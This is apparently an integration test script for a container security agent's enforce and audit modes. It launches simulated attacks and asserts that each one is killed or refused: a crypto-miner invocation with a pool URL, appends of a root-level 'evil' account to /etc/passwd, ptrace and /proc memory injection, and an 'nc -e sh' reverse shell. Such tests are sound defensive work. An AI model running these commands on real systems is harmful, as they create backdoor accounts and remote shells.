#!/bin/sh
# The protect set (`palisade run --protect --enforce`, rules/protect.yaml,
# docs/protect.md), each response asserted on its outcome, as a container's
# first command and in a running container: a denylisted executable never
# runs (by name, renamed with a pool URL), a shell in a non-debug container
# pauses it (docker exec, an interactive first process; not a scripted entry
# point, not a debug container), an account file write is refused and the
# writer dies before it returns (an existing file stays unchanged, a missing
# one gets no content; opened by its handle too), the account files are
# pinned immutable (a rename, an unlink, a chmod refused; not in a build
# step; cleared at stop), an injection syscall kills its caller, so does a
# write through /proc/PID/mem (after its open), a reverse shell is killed. Audit mode
# (--protect alone) reports and does nothing.
. tests/integration/lib.sh

P=enforce-pr$$ # container names: this branch's prefix
OUT=$WORK/out
mkdir -p "$OUT" "$WORK/bin"
# A program that proves it ran: it creates /out/NAME-ran, NAME its own name.
cc -static -O2 -o "$WORK/bin/ran" -x c - <<'C' || exit 1
#include <stdio.h>
#include <string.h>
int main(int argc, char **argv)
{
	const char *b = strrchr(argv[0], '/');
	char p[256];
	FILE *f;

	(void)argc;
	snprintf(p, sizeof(p), "/out/%s-ran", b ? b + 1 : argv[0]);
	f = fopen(p, "w");
	if (f)
		fclose(f);
	return 0;
}
C
cc -static -O2 -o "$WORK/bin/tracer" tests/integration/enforce_ptrace.c || exit 1
cc -static -O2 -pthread -o "$WORK/bin/evasion" tests/integration/evasion_open.c -luring || exit 1
ran() { test -e "$OUT/$1-ran"; }
never_ran() { ! ran "$1"; }
paused() { test "$(docker inspect -f '{{.State.Paused}}' "$1" 2>/dev/null)" = true; }
running() { test "$(docker inspect -f '{{.State.Running}} {{.State.Paused}}' "$1" 2>/dev/null)" = "true false"; }
wait_paused() { # wait_paused NAME: true once docker says it is paused (15 s at most)
	deadline=$(( $(date +%s) + 15 ))
	until paused "$1"; do
		[ "$(date +%s)" -lt "$deadline" ] || return 1
		sleep 0.2
	done
}
record() { # record RULE CONTAINER
	wait_alert ".rule==\"Protect - $1\" and .palisade_action and (.palisade_action.verdict|not) and .output_fields[\"container.name\"]==\"$2\"" 10 "Protect - $1"
}
# first NAME BINARY-AS ARGS...: a container whose first command is $WORK/bin/ran
# mounted as /bin/BINARY-AS.
first() {
	n=$1 as=$2
	shift 2
	CONTAINERS="$CONTAINERS $P-$n"
	docker run --rm --name "$P-$n" -v "$WORK/bin/ran:/bin/$as:ro" -v "$OUT:/out" "$IMAGE" "$as" "$@"
}

run_container "$P-run" "$IMAGE" sleep 300
run_container "$P-debug" --label palisade.debug=true "$IMAGE" sleep 300
docker cp "$WORK/bin/ran" "$P-run:/bin/nmap"
# An account file on a file system with handles (overlayfs has none), for a
# write through open_by_handle_at (CAP_DAC_READ_SEARCH, no seccomp filter).
echo "root:x:0:0:root:/root:/bin/sh" >"$WORK/passwd-handle"
run_container "$P-handle" --cap-add DAC_READ_SEARCH --security-opt seccomp=unconfined \
	-v "$WORK/passwd-handle:/etc/passwd" -v "$WORK/bin/evasion:/bin/evasion:ro" "$IMAGE" sleep 300
# A generous hold timeout: the checks below are about what is refused, not
# about how fast a new container is armed (test_first_exec tests the
# timeout); at the default 2 s a busy CI machine once released a container
# before its root was marked.
start_agent --protect --enforce --hold-timeout-ms 20000 || exit 1
check "plan: the denylist is killed in kernel at exec" \
	grep -q "Protect - denylisted executable killed at exec: kill in kernel at exec" "$WORK/agent.err"
check "plan: account file writes denied by fanotify, the caller killed" \
	grep -q "Protect - account file write denied: deny through fanotify, and kill the caller" "$WORK/agent.err"
check "plan: injection syscalls killed at syscall entry" \
	grep -q "Protect - injection syscall killed: kill in kernel at syscall entry, in containers" "$WORK/agent.err"

# 1. Denylisted executables.
first miner xmrig
check "denylist, first command: killed (137)" test $? -eq 137
check "denylist, first command: it never ran" never_ran xmrig
a=$(record "denylisted executable killed at exec" "$P-miner")
check "denylist, first command: the record says killed before its first instruction" expect "$a" \
	'.priority=="Critical" and (.palisade_action.detail|test("before its first instruction"))'
first renamed kworker -o stratum+tcp://pool.example:3333
check "renamed miner, first command: killed by its pool URL (137)" test $? -eq 137
check "renamed miner, first command: it never ran" never_ran kworker
first benign worker -o pool.example:3333
check "near miss: the same program without a pool URL runs" ran worker
docker exec "$P-run" nmap
check "denylist, running container: killed (137)" test $? -eq 137
check "denylist, running container: it never ran" never_ran nmap

# 2. Account files: the write is refused, the writer dies before it returns.
CONTAINERS="$CONTAINERS $P-write"
docker run --name "$P-write" -v "$OUT:/out" "$IMAGE" \
	sh -c 'echo "evil:x:0:0::/:/bin/sh" >> /etc/passwd && touch /out/after-write-ran'
st=$?
# Refused by fanotify, the writer killed in the open (137), or, when the
# pins were in place before the hold let it go, refused by the kernel (1)
# and killed right after.
check "passwd, first command: the write is refused ($st)" test "$st" -eq 137 -o "$st" -eq 1
check "passwd, first command: it never went on after the open" never_ran after-write
docker cp "$P-write:/etc/passwd" - | tar -xO >"$WORK/passwd-after"
check "passwd, first command: /etc/passwd unchanged" \
	test "$(cat "$WORK/passwd-after")" = "root:x:0:0:root:/root:/bin/sh"
a=$(record "account file write denied" "$P-write")
check "passwd: a Critical record, refused and killed" expect "$a" \
	'.priority=="Critical" and .palisade_action.outcome=="done" and (.palisade_action.detail|test("caller killed|pinned the file immutable"))'
echo "root::0:0:::" | docker exec -i "$P-debug" tee /etc/shadow >/dev/null
check "shadow (absent from the image), running container: the writer is killed (137)" test $? -eq 137
check "shadow: no content reached it" test -z "$(docker exec "$P-debug" cat /etc/shadow 2>/dev/null)"
if "$WORK/bin/evasion" name-handle "$WORK/passwd-handle" >/dev/null 2>&1; then
	docker exec "$P-handle" evasion handle-write /etc/passwd "evil:x:0:0::/:/bin/sh"
	check "passwd by open_by_handle_at, running container: the writer is killed (137)" test $? -eq 137
	check "passwd by open_by_handle_at: unchanged" \
		test "$(cat "$WORK/passwd-handle")" = "root:x:0:0:root:/root:/bin/sh"
else
	skip "passwd by open_by_handle_at: $WORK has no file handles"
fi

# A file system mounted over /etc (CAP_SYS_ADMIN, mount allowed): its
# passwd is no file the guard marked (until its next marking), so the write
# happens; the writer is still killed right after it returns, and the
# record says both (or, marked in time, the write is refused).
run_container "$P-mnt" --label palisade.debug=true --cap-add SYS_ADMIN \
	--security-opt seccomp=unconfined "$IMAGE" sleep 300
docker exec "$P-mnt" sh -c 'mount -t tmpfs none /etc && echo "root:x:0:0::/:/bin/sh" >/etc/passwd'
docker exec "$P-mnt" sh -c 'echo "evil::0:0::/:/bin/sh" >>/etc/passwd; sleep 2' 2>/dev/null
check "passwd under a mount over /etc: the writer is killed after its write (137)" test $? -eq 137
a=$(wait_alert ".rule==\"Protect - account file write denied\" and .output_fields[\"container.name\"]==\"$P-mnt\" and (.output_fields[\"evt.arg.flags\"]|test(\"APPEND\"))" 10 "account file write denied")
check "passwd under a mount over /etc: the record says it happened, and the kill" expect "$a" \
	'.palisade_action.outcome=="done" or (.palisade_action.outcome=="missed" and (.palisade_action.detail|test("it happened; its caller, after it returned: killed")))'

# 2b. Pins: the account files are immutable in a container, so what
#     fanotify cannot see (a rename onto them, an unlink, a chmod) is refused
#     by the kernel; not in a build step's container (named by image id).
pinned() { lsattr "/proc/$(docker inspect -f '{{.State.Pid}}' "$1")/root/etc/passwd" 2>/dev/null | cut -c1-20 | grep -q i; }
wait_pinned() { # wait_pinned NAME: true once its /etc/passwd is immutable (20 s at most)
	deadline=$(( $(date +%s) + 20 ))
	until pinned "$1"; do
		[ "$(date +%s)" -lt "$deadline" ] || return 1
		sleep 0.2
	done
}
run_container "$P-build" "$(docker image inspect -f '{{.Id}}' "$IMAGE")" sleep 300
# Debug-labelled: its shells do not pause it (the pins apply all the same).
run_container "$P-pin" --label palisade.debug=true "$IMAGE" sleep 300
check "pin: /etc/passwd is immutable in a running container" wait_pinned "$P-pin"
docker exec "$P-pin" sed -i s/root/toor/ /etc/passwd 2>/dev/null
check "pin: sed -i (a rename onto it) is refused" test $? -ne 0
docker exec "$P-pin" sh -c 'cp /etc/passwd /tmp/pw && echo "evil::0:0::/:/bin/sh" >>/tmp/pw && mv /tmp/pw /etc/passwd' 2>/dev/null
check "pin: mv of a prepared copy onto it is refused" test $? -ne 0
docker exec "$P-pin" rm -f /etc/passwd 2>/dev/null
check "pin: rm is refused" test $? -ne 0
docker exec "$P-pin" chmod 666 /etc/passwd 2>/dev/null
check "pin: chmod is refused" test $? -ne 0
# The exits above may be the kill that follows each attempt: what counts is
# that the file is the same, in content and mode, and still there.
check "pin: /etc/passwd unchanged, still there, mode 644" \
	test "$(docker exec "$P-pin" sh -c 'stat -c %a /etc/passwd; cat /etc/passwd')" = "644
root:x:0:0:root:/root:/bin/sh"
a=$(wait_alert ".rule==\"Protect - account file replaced\" and .output_fields[\"container.name\"]==\"$P-pin\"" 10 "account file replaced")
check "pin: the refused rename is reported, its result EPERM" expect "$a" '.output|test("result=EPERM")'
docker exec "$P-build" sed -i s/root/toor/ /etc/passwd
check "near miss: a build step's container is not pinned (sed -i works)" test $? -eq 0

# 3. Injection: the caller dies at syscall entry.
# inject NAME WHAT RULE OUTCOME TRACER-ARGS: runs the tracer on a sleeping
# process in container P-NAME; it must be killed before it makes
# /out/NAME-ran, with a Critical record of RULE whose outcome is OUTCOME.
inject() {
	n=$1 what=$2 rule=$3 outcome=$4
	shift 4
	CONTAINERS="$CONTAINERS $P-$n"
	docker run --rm --name "$P-$n" --cap-add SYS_PTRACE -v "$WORK/bin/tracer:/bin/tracer:ro" \
		-v "$OUT:/out" "$IMAGE" sh -c "sleep 30 & exec tracer $* \$! /out/$n-ran"
	check "$what: the caller is killed (137)" test $? -eq 137
	check "$what: it never went on" never_ran "$n"
	a=$(record "$rule" "$P-$n")
	check "$what: a Critical record, outcome $outcome" expect "$a" \
		".priority==\"Critical\" and .palisade_action.outcome==\"$outcome\""
}
inject tracer ptrace "injection syscall killed" "served in kernel"
# The same injection without ptrace: a write through /proc/PID/mem. The
# writer lingers (as the tracer does) so the user-space kill lands.
inject memw "/proc/PID/mem write" "process memory written through /proc" done mem

# 3b. A reverse shell: nc connects to a listener and execs a shell on the
#     connection; the listener sends it a command. The shell dies first.
run_container "$P-lis" "$IMAGE" sh -c '(sleep 2; echo "touch /out/revshell-ran"; sleep 3) | nc -l -p 4444'
CONTAINERS="$CONTAINERS $P-rev"
docker run --rm --name "$P-rev" -v "$OUT:/out" "$IMAGE" \
	nc "$(docker inspect -f '{{.NetworkSettings.IPAddress}}' "$P-lis")" 4444 -e sh
check "reverse shell (nc -e sh): the shell is killed (137)" test $? -eq 137
check "reverse shell: it never ran the listener's command" never_ran revshell
a=$(record "shell on a network socket killed" "$P-rev")
check "reverse shell: a Critical record, the kill done" expect "$a" \
	'.priority=="Critical" and .palisade_action.outcome=="done"'

# 4. Shells: docker exec and an interactive first process pause the
#    container; a scripted entry point and a debug container do not.
docker exec "$P-debug" sh -c true
docker exec "$P-run" sh -c true
check "shell, docker exec: the container is paused" wait_paused "$P-run"
run_container "$P-shell" -it "$IMAGE" sh
run_container "$P-script" "$IMAGE" sh -c 'sleep 300'
check "shell, interactive first process: the container is paused" wait_paused "$P-shell"
check "near miss: a scripted entry point is not paused" running "$P-script"
# The same shells by busybox's own name (comm and argv[0] say busybox).
run_container "$P-bb" "$IMAGE" sleep 300
docker exec "$P-bb" busybox true
docker exec "$P-bb" busybox sh -c true
check "shell, docker exec busybox sh: the container is paused" wait_paused "$P-bb"
run_container "$P-bbi" -i "$IMAGE" busybox sh
run_container "$P-bbs" "$IMAGE" busybox sh -c 'sleep 300'
check "shell, busybox sh as an interactive first process: the container is paused" wait_paused "$P-bbi"
check "near miss: busybox sh -c as the entry point is not paused" running "$P-bbs"
# An interactive shell behind another program (time forks it): its parent
# is not runc, but it has a terminal and no command.
run_container "$P-tm" "$IMAGE" sleep 300
timeout 10 docker exec -t "$P-tm" time sh -c true </dev/null >/dev/null
timeout 10 docker exec -t "$P-tm" time sh </dev/null >/dev/null
check "shell, docker exec -t time sh: the container is paused" wait_paused "$P-tm"
check "near miss: a debug container is not paused" running "$P-debug"
stop_agent
grep "palisade: hold" "$WORK/agent.err" >&2 # the hold's counts, for a failure's reader
not_pinned() { ! pinned "$1"; }
check "pin: cleared when the agent stops" not_pinned "$P-pin"
for c in "$P-run" "$P-shell" "$P-bb" "$P-bbi" "$P-tm"; do docker unpause "$c" >/dev/null 2>&1; done

# 5. Audit mode: --protect alone reports and does nothing.
start_agent --protect || exit 1
first audited xmrig
check "audit: the denylisted program runs" ran xmrig
a=$(record "denylisted executable killed at exec" "$P-audited")
check "audit: reported as would-have" expect "$a" '.palisade_action.outcome=="would-have"'
stop_agent
